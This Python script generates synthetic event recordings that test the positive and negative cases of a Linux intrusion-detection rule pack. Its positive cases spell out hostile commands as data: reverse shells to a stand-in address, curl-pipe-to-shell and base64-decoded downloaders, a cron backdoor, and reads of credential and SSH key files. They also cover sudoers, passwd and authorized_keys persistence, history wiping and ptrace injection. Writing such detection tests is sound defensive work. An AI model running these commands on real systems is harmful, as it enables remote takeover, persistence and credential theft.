#!/usr/bin/env python3
"""Writes the recordings of the rule pack (rules/*.yml): for each rule file NAME.yml,
NAME.positive.ndjson (what the rules of that file must fire on) and NAME.negative.ndjson (near
misses they must not fire on), as the sensor would record them: a host that boots (init, sshd,
nginx found running), a login shell, then the activity, with fork, exec, exit and the rest in
order. `pangolin rules test rules/ --recordings tests/rules/` replays them.

The files are committed; run this script after changing it, and review the diff:

    python3 tests/rules/make_recordings.py [--out DIR]
"""
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = 1764064800_000_000_000  # 2025-11-25T10:00:00Z
SEC = 1_000_000_000
O_WRONLY, O_RDWR, O_CREAT, O_TRUNC, O_APPEND, O_CLOEXEC = 0o1, 0o2, 0o100, 0o1000, 0o2000, 0o2000000
WRITE = O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC


class Proc:
    def __init__(self, pid, start, ppid, uid, exe, comm):
        self.pid, self.start, self.ppid, self.uid = pid, start, ppid, uid
        self.exe, self.comm = exe, comm


class Host:
    """A machine's events, in order, with the clock advancing 1 ms per event (or as told)."""

    def __init__(self, node="web-1"):
        self.node = node
        self.events = []
        self.t = T0
        self.boot = 1_000 * SEC  # CLOCK_BOOTTIME of the first processes
        self.next_pid = 3000
        self.init = self.found(1, 0, 0, "/usr/lib/systemd/systemd", ["/sbin/init", "splash"])
        self.sshd = self.found(700, 1, 0, "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener]"])
        self.nginx = self.found(800, 1, 0, "/usr/sbin/nginx", ["nginx: master process /usr/sbin/nginx"])
        self.worker = self.fork(self.nginx, uid=33)
        self.session = self.fork(self.sshd)
        self.shell = self.run(self.session, "/bin/bash", ["-bash"], uid=1000)

    def wait(self, seconds):
        self.t += int(seconds * SEC)

    def _hdr(self, type_, p, **payload):
        self.t += 1_000_000
        e = {"v": 1, "type": type_, "ts": self.t, "pid": p.pid, "tid": p.pid, "ppid": p.ppid,
             "uid": p.uid, "gid": p.uid, "comm": p.comm, "cgroup_id": 4242, "start_ns": p.start,
             "node": self.node}
        e.update(payload)
        self.events.append(e)
        return e

    def found(self, pid, ppid, uid, exe, argv, **flags):
        """A process already running when the sensor started (the start-up snapshot)."""
        self.boot += SEC
        p = Proc(pid, self.boot, ppid, uid, exe, os.path.basename(exe)[:15])
        self._hdr("exec", p, path=exe, argv=argv, snapshot=True, **flags)
        return p

    def fork(self, parent, uid=None):
        """A child that runs its parent's program until it execs."""
        pid = self.next_pid
        self.next_pid += 1
        child = Proc(pid, self.t - T0 + self.boot + 1, parent.pid,
                     parent.uid if uid is None else uid, parent.exe, parent.comm)
        self._hdr("fork", parent, child_pid=pid, child_start_ns=child.start)
        return child

    def execve(self, p, path, argv, **flags):
        p.exe, p.comm = path, os.path.basename(path)[:15]
        self._hdr("exec", p, path=path, argv=argv, **flags)
        return p

    def run(self, parent, path, argv, uid=None, **flags):
        """fork + exec: a command the parent starts."""
        return self.execve(self.fork(parent, uid), path, argv, **flags)

    def open(self, p, path, flags=O_CLOEXEC, ret=3, mode=0):
        return self._hdr("open", p, dirfd=-100, flags=flags, mode=mode, ret=ret, path=path)

    def write(self, p, path):
        return self.open(p, path, WRITE, mode=0o644)

    def connect(self, p, ip, port, ret=0):
        fam = "inet6" if ":" in ip else "inet"
        return self._hdr("connect", p, family=fam, daddr=ip, dport=port, fd=3, ret=ret)

    def dns(self, p, qname, qtype="A"):
        return self._hdr("dns", p, family="inet", daddr="127.0.0.53", dport=53, transport="udp",
                         dns_id=(len(self.events) * 7919) % 65536, qname=qname, qtype=qtype, qclass=1)

    def setid(self, p, call, real, eff, saved, ret=0):
        if ret == 0 and real != 4294967295:
            p.uid = real
        return self._hdr("setid", p, call=call, ret=ret, id_real=real, id_effective=eff, id_saved=saved)

    def ptrace(self, p, request, target, ret=0, addr=0):
        return self._hdr("ptrace", p, request=request, ret=ret, target_pid=target, addr=addr)

    def exit(self, p, code=0, signal=0):
        return self._hdr("exit", p, exit_code=code, signal=signal,
                         lifetime_ns=max(1, self.t - T0 + self.boot - p.start))

    def sh(self, parent, cmd, uid=None):
        """sh -c CMD (its children are the caller's business)."""
        return self.run(parent, "/bin/sh", ["sh", "-c", cmd], uid=uid)


# --- the recordings, per rule file ---------------------------------------------------------

def reverse_shell_dev_tcp(h, positive):
    if positive:
        h.run(h.shell, "/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
    else:  # a health check that reads from a port: no shell is redirected
        h.run(h.shell, "/bin/bash", ["bash", "-c", "cat < /dev/tcp/127.0.0.1/8080"])


def reverse_shell_netcat(h, positive):
    if positive:
        h.run(h.shell, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
        h.sh(h.shell, "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f")
    else:
        h.run(h.shell, "/usr/bin/nc", ["nc", "-zv", "10.0.0.5", "22"])
        h.run(h.shell, "/usr/bin/mkfifo", ["mkfifo", "/tmp/pipe"])


def shell_from_web_server(h, positive):
    if positive:
        h.sh(h.worker, "id; uname -a")
    else:
        h.sh(h.worker, "invoke-rc.d nginx rotate >/dev/null 2>&1")
        h.run(h.shell, "/bin/bash", ["bash", "deploy.sh"])


def recon_under_web_server(h, positive):
    parent = h.sh(h.worker, "id") if positive else h.sh(h.shell, "id")
    h.run(parent, "/usr/bin/id", ["id"])


def curl_pipe_shell(h, positive):
    if positive:
        h.sh(h.shell, "curl -fsSL http://203.0.113.7/x.sh | sh")
    else:
        h.run(h.shell, "/usr/bin/curl", ["curl", "-o", "/tmp/x.sh", "http://203.0.113.7/x.sh"])
        h.sh(h.shell, "curl -s http://localhost/status | grep -q ok")


def decode_pipe_shell(h, positive):
    if positive:
        h.sh(h.shell, "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | bash")
    else:
        h.sh(h.shell, "base64 -d cert.b64 > cert.der")


def interpreter_reverse_shell(h, positive):
    if positive:
        h.run(h.shell, "/usr/bin/python3", ["python3", "-c",
              "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
              "s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
              "subprocess.call(['/bin/sh','-i'])"])
        h.run(h.shell, "/usr/bin/perl", ["perl", "-e",
              "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
              "connect(S,sockaddr_in(4444,inet_aton('203.0.113.7')));exec('/bin/sh -i');"])
    else:
        h.run(h.shell, "/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"])
        h.run(h.shell, "/usr/bin/perl", ["perl", "-e", "use Socket; print inet_ntoa(inet_aton('localhost'))"])


def fileless_exec(h, positive):
    if positive:
        loader = h.run(h.shell, "/usr/bin/python3", ["python3", "loader.py"])
        child = h.fork(loader)
        h.execve(child, "/proc/self/fd/4", ["kworker/u8:2"], exe_unlinked=True)
    else:
        h.run(h.shell, "/usr/bin/true", ["true"])
        # found running at start-up: not a process creation (the snapshot is not an exec)
        h.found(950, 1, 0, "/memfd:agent (deleted)", ["agent"], exe_unlinked=True)


def exec_from_dev_shm(h, positive):
    if positive:
        h.run(h.shell, "/dev/shm/.x/kworker", ["[kworker/0:1]"])
        h.run(h.shell, "/tmp/.cache/.d/miner", ["miner", "-o", "pool"])
    else:
        h.run(h.shell, "/tmp/build/a.out", ["./a.out"])
        h.run(h.shell, "/usr/bin/ls", ["ls", "/dev/shm/.x"])


def _victim(h):
    return h.run(h.session, "/usr/bin/sleep", ["sleep", "1000"], uid=1000)


def ptrace_attach(h, positive):
    victim = _victim(h)
    if positive:
        inj = h.run(h.shell, "/tmp/inject", ["./inject", str(victim.pid)])
        h.ptrace(inj, "attach", victim.pid)
    else:
        gdb = h.run(h.shell, "/usr/bin/gdb", ["gdb", "-p", str(victim.pid)])
        h.ptrace(gdb, "attach", victim.pid)
        tool = h.run(h.shell, "/tmp/inject", ["./inject", "1"])
        h.ptrace(tool, "attach", 1, ret=-1)  # refused: not ours


def ptrace_code_injection(h, positive):
    victim = _victim(h)
    if positive:
        inj = h.run(h.shell, "/tmp/inject", ["./inject", str(victim.pid)])
        h.ptrace(inj, "seize", victim.pid)
        h.ptrace(inj, "poketext", victim.pid, addr=0x7f1234560000)
        h.ptrace(inj, "setregs", victim.pid)
    else:
        gdb = h.run(h.shell, "/usr/bin/gdb", ["gdb", "-p", str(victim.pid)])
        h.ptrace(gdb, "attach", victim.pid)
        h.ptrace(gdb, "poketext", victim.pid, addr=0x401000)  # a breakpoint


def setuid_root_unexpected(h, positive):
    if positive:
        x = h.run(h.shell, "/tmp/.x/rootme", ["./rootme"])
        h.setid(x, "setuid", 0, 0, 0)
    else:
        sudo = h.run(h.shell, "/usr/bin/sudo", ["sudo", "apt", "update"])
        h.setid(sudo, "setresuid", 0, 0, 0)
        x = h.run(h.shell, "/tmp/tool", ["./tool"])
        h.setid(x, "setuid", 0, 0, 0, ret=-1)  # EPERM: it tried and failed


def credential_file_read(h, positive):
    if positive:
        py = h.run(h.shell, "/usr/bin/python3", ["python3", "dump.py"], uid=0)
        h.open(py, "/etc/shadow")
    else:
        chk = h.run(h.session, "/usr/sbin/unix_chkpwd", ["unix_chkpwd", "alice", "chkexpiry"], uid=0)
        h.open(chk, "/etc/shadow")
        cat = h.run(h.shell, "/usr/bin/cat", ["cat", "/etc/passwd"])
        h.open(cat, "/etc/passwd")


def ssh_private_key_read(h, positive):
    tar = h.run(h.shell, "/usr/bin/tar", ["tar", "czf", "/tmp/k.tgz", "/home/alice/.ssh"])
    if positive:
        h.open(tar, "/home/alice/.ssh/id_ed25519")
    else:
        h.open(tar, "/home/alice/.ssh/id_ed25519.pub")
        ssh = h.run(h.shell, "/usr/bin/ssh", ["ssh", "git@example.com"])
        h.open(ssh, "/home/alice/.ssh/id_ed25519")


def cron_persistence(h, positive):
    if positive:
        sh = h.sh(h.shell, "echo '* * * * * root curl -s http://203.0.113.7/u | sh' > /etc/cron.d/updater", uid=0)
        h.write(sh, "/etc/cron.d/updater")
    else:
        dpkg = h.run(h.shell, "/usr/bin/dpkg", ["dpkg", "-i", "man-db.deb"], uid=0)
        h.write(dpkg, "/etc/cron.daily/man-db")
        cat = h.run(h.shell, "/usr/bin/cat", ["cat", "/etc/crontab"])
        h.open(cat, "/etc/crontab")


def systemd_persistence(h, positive):
    sh = h.sh(h.shell, "cat > /etc/systemd/system/dbus-update.service", uid=0)
    if positive:
        h.write(sh, "/etc/systemd/system/dbus-update.service")
    else:
        dpkg = h.run(h.shell, "/usr/bin/dpkg", ["dpkg", "-i", "openssh-server.deb"], uid=0)
        h.write(dpkg, "/lib/systemd/system/ssh.service")
        h.write(sh, "/etc/systemd/system/ssh.service.d/override.conf")  # a drop-in, not a unit


def ld_so_preload_write(h, positive):
    if positive:
        sh = h.sh(h.shell, "echo /usr/lib/libsystem.so > /etc/ld.so.preload", uid=0)
        h.write(sh, "/etc/ld.so.preload")
    else:
        ls = h.run(h.shell, "/usr/bin/ls", ["ls"])
        h.open(ls, "/etc/ld.so.preload", ret=-2)  # the dynamic loader looks, every time


def authorized_keys_write(h, positive):
    if positive:
        sh = h.sh(h.shell, "echo ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys", uid=0)
        h.open(sh, "/root/.ssh/authorized_keys", O_WRONLY | O_CREAT | O_APPEND)
    else:
        h.open(h.session, "/home/alice/.ssh/authorized_keys")  # sshd reads it at login
        ci = h.run(h.init, "/usr/bin/cloud-init", ["cloud-init", "modules"], uid=0)
        h.write(ci, "/home/alice/.ssh/authorized_keys")


def sudoers_write(h, positive):
    if positive:
        sh = h.sh(h.shell, "echo 'alice ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/99-alice", uid=0)
        h.write(sh, "/etc/sudoers.d/99-alice")
    else:
        v = h.run(h.shell, "/usr/sbin/visudo", ["visudo"], uid=0)
        h.write(v, "/etc/sudoers")
        sudo = h.run(h.shell, "/usr/bin/sudo", ["sudo", "-l"])
        h.open(sudo, "/etc/sudoers")


def passwd_write(h, positive):
    if positive:
        py = h.run(h.shell, "/usr/bin/python3", ["python3", "-c", "open('/etc/passwd','a').write('x:x:0:0::/:/bin/sh')"], uid=0)
        h.open(py, "/etc/passwd", O_WRONLY | O_CREAT | O_APPEND)
    else:
        ua = h.run(h.shell, "/usr/sbin/useradd", ["useradd", "bob"], uid=0)
        h.write(ua, "/etc/passwd")
        cat = h.run(h.shell, "/usr/bin/cat", ["cat", "/etc/passwd"])
        h.open(cat, "/etc/passwd")


def history_tampering(h, positive):
    if positive:
        h.run(h.shell, "/usr/bin/rm", ["rm", "-f", "/home/alice/.bash_history"])
        h.run(h.shell, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/home/alice/.bash_history"])
    else:
        h.run(h.shell, "/usr/bin/rm", ["rm", "-f", "/tmp/build.log"])
        h.run(h.shell, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/tmp/out"])


def kernel_module_load(h, positive):
    if positive:
        h.run(h.shell, "/usr/sbin/insmod", ["insmod", "/tmp/.r/rk.ko"], uid=0)
    else:
        udevd = h.found(400, 1, 0, "/usr/lib/systemd/systemd-udevd", ["/lib/systemd/systemd-udevd"])
        h.run(udevd, "/usr/sbin/modprobe", ["modprobe", "-bv", "pci:v00008086d00001237"])
        h.run(h.shell, "/usr/sbin/modprobe", ["modprobe", "-r", "usb_storage"], uid=0)


def setuid_bit_set(h, positive):
    if positive:
        h.run(h.shell, "/usr/bin/chmod", ["chmod", "u+s", "/tmp/.x/sh"], uid=0)
        h.run(h.shell, "/usr/bin/chmod", ["chmod", "4755", "/tmp/b"], uid=0)
    else:
        h.run(h.shell, "/usr/bin/chmod", ["chmod", "755", "/usr/local/bin/tool"], uid=0)
        h.run(h.shell, "/usr/bin/chmod", ["chmod", "u+x", "deploy.sh"])


def scanner_exec(h, positive):
    if positive:
        h.run(h.shell, "/usr/bin/nmap", ["nmap", "-sT", "10.0.0.0/24"])
    else:
        h.run(h.shell, "/usr/bin/nmcli", ["nmcli", "dev", "status"])


def nsenter_host_namespaces(h, positive):
    if positive:
        h.run(h.shell, "/usr/bin/nsenter", ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"], uid=0)
    else:
        h.run(h.shell, "/usr/bin/nsenter", ["nsenter", "-t", "4242", "-n", "ip", "addr"], uid=0)


def shell_connects_out(h, positive):
    b = h.run(h.shell, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/HOST/PORT"])
    if positive:
        h.connect(b, "203.0.113.7", 4444)
    else:
        h.connect(b, "127.0.0.1", 8080)
        curl = h.run(h.shell, "/usr/bin/curl", ["curl", "https://example.com/"])
        h.connect(curl, "93.184.215.14", 443)


def connect_to_attacker_ports(h, positive):
    py = h.run(h.shell, "/usr/bin/python3.11", ["python3", "client.py"])
    if positive:
        h.connect(py, "203.0.113.7", 4444)
    else:
        h.connect(py, "203.0.113.7", 443)
        h.connect(h.worker, "10.0.0.9", 4444)  # nginx proxying to an upstream on 4444


def dga_like_dns(h, positive):
    curl = h.run(h.shell, "/usr/bin/curl", ["curl", "https://example.com/"])
    if positive:
        h.dns(curl, "x7f3kq9zb2mv8wlp.info")
    else:
        h.dns(curl, "www.example.com")
        h.dns(curl, "d2abcdef1234567.cloudfront.net")
        h.dns(curl, "abcdefghijklmnopqrstu.example")  # long, but no digit


def download_chmod_exec(h, positive):
    curl = h.run(h.shell, "/usr/bin/curl", ["curl", "-o", "/tmp/x", "http://203.0.113.7/x"])
    h.write(curl, "/tmp/x")
    h.wait(10)
    h.run(h.shell, "/usr/bin/chmod", ["chmod", "+x", "/tmp/x"])
    # positive: runs 40 s after the download; negative: 61 s after (the window is 60 s)
    h.wait(30 if positive else 50)
    h.run(h.shell, "/tmp/x", ["/tmp/x"])


def port_scan(h, positive):
    scanner = h.run(h.shell, "/usr/bin/python3", ["python3", "scan.py", "10.0.0.5"])
    if positive:
        for port in range(20, 45):
            h.connect(scanner, "10.0.0.5", port, ret=-111)
    else:
        for port in range(20, 39):  # 19 ports: one short
            h.connect(scanner, "10.0.0.5", port, ret=-111)
        for _ in range(30):  # many connections, one port
            h.connect(h.worker, "10.0.0.9", 8080)


def su_bruteforce_then_root(h, positive):
    shells = [h.shell] if positive else [h.shell, h.run(h.session, "/bin/bash", ["bash"], uid=1000)]
    for i in range(3):
        # negative: the failures come from two shells (2 + 1): no shell failed three times
        su = h.run(shells[i % len(shells)] if not positive else h.shell, "/usr/bin/su", ["su", "-"])
        h.wait(5)
        h.exit(su, code=1)
    su = h.run(h.shell, "/usr/bin/su", ["su", "-"])
    h.setid(su, "setresuid", 0, 0, 0)
    h.run(su, "/bin/bash", ["-bash"])


def dns_txt_burst(h, positive):
    tun = h.run(h.shell, "/usr/local/bin/tunnel", ["tunnel", "t.example"])
    if positive:
        for i in range(35):
            h.dns(tun, f"{i:04x}.t.example", "TXT")
            h.wait(0.5)
    else:
        for i in range(29):
            h.dns(tun, f"{i:04x}.t.example", "TXT")
            h.wait(1.7)
        for i in range(35):
            h.dns(tun, f"{i:04x}.a.example", "A")


def recon_burst(h, positive):
    h.run(h.shell, "/usr/bin/id", ["id"])
    h.wait(5)
    h.run(h.shell, "/usr/bin/whoami" if not positive else "/usr/bin/uname", ["uname", "-a"])
    h.wait(5)
    if positive:
        h.run(h.shell, "/usr/sbin/ip", ["ip", "addr"])
    else:
        h.run(h.shell, "/usr/bin/uname", ["uname", "-a"])
        h.wait(60)  # the third kind comes too late
        h.run(h.shell, "/usr/sbin/ip", ["ip", "addr"])


RECORDINGS = {f.__name__: f for f in [
    reverse_shell_dev_tcp, reverse_shell_netcat, shell_from_web_server, recon_under_web_server,
    curl_pipe_shell, decode_pipe_shell, interpreter_reverse_shell, fileless_exec,
    exec_from_dev_shm, ptrace_attach, ptrace_code_injection, setuid_root_unexpected,
    credential_file_read, ssh_private_key_read, cron_persistence, systemd_persistence,
    ld_so_preload_write, authorized_keys_write, sudoers_write, passwd_write, history_tampering,
    kernel_module_load, setuid_bit_set, scanner_exec, nsenter_host_namespaces,
    shell_connects_out, connect_to_attacker_ports, dga_like_dns, download_chmod_exec,
    port_scan, su_bruteforce_then_root, dns_txt_burst, recon_burst]}


def main():
    out = sys.argv[sys.argv.index("--out") + 1] if "--out" in sys.argv else HERE
    rules = os.path.join(HERE, "..", "..", "rules")
    names = sorted(f[:-4] for f in os.listdir(rules) if f.endswith(".yml"))
    missing = set(names) - set(RECORDINGS)
    if missing:
        sys.exit(f"no recordings for: {', '.join(sorted(missing))}")
    for name, fn in RECORDINGS.items():
        for kind, positive in (("positive", True), ("negative", False)):
            h = Host()
            fn(h, positive)
            with open(os.path.join(out, f"{name}.{kind}.ndjson"), "w") as f:
                for e in h.events:
                    f.write(json.dumps(e, separators=(",", ":"), ensure_ascii=False) + "\n")
    print(f"{len(RECORDINGS) * 2} recordings for {len(RECORDINGS)} rule files")


if __name__ == "__main__":
    main()
